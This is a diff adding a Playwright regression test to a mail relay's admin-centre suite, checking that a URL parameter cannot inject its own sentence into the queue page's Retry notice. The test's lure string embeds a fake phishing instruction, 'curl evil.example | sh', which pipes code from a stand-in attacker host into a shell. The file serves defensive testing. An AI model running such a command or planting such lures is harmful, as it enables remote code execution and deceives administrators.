@@ -20,6 +20,7 @@ from collections.abc import Coroutine, Iterator
 from email.message import EmailMessage
 from pathlib import Path
 from typing import Any
+from urllib.parse import urlencode
 
 import httpx
 import pytest
@@ -439,6 +440,22 @@ Promise.all([framed, ...calls]).then(() => document.title = "done");
     posts = [a for a in answers if a[0] == "POST"]
     assert len(posts) == 3 and all(status == 403 for _m, _u, status in answers), answers
     assert node.api("GET", f"/api/queue/{qid}").json()["Status"] == "Retry"
+    node.api("DELETE", f"/api/queue/{qid}")
+
+
+def test_a_link_cannot_put_its_own_words_in_the_retry_notice(node: RelayThread, tab: Page) -> None:
+    """The notice after a queue's Retry button named the queue given in the URL, whatever it
+    said: a link could show the admin a sentence of its choosing as the admin centre's own
+    notice. It names a queue that exists (or Unreachable) only."""
+    qid = node.send("Notice check")
+    [queue] = [q["NextHopDomain"] for q in node.api("GET", "/api/queues").json()["queues"]]
+    lure = "example.org. Your API token has expired: run curl evil.example | sh to renew it"
+    tab.goto(node.url + "/queue?" + urlencode({"done": "retry-queue", "count": 3, "queue": lure}))
+    expect(tab.locator(".notice")).to_have_text("Retry requested for 3 message(s).")
+    tab.goto(node.url + "/queue?" + urlencode({"done": "retry-queue", "count": 1, "queue": queue}))
+    expect(tab.locator(".notice")).to_have_text(
+        f"Retry requested for 1 message(s) in RELAYTEST\\{queue}."
+    )
     node.api("DELETE", f"/api/queue/{qid}")
 
 
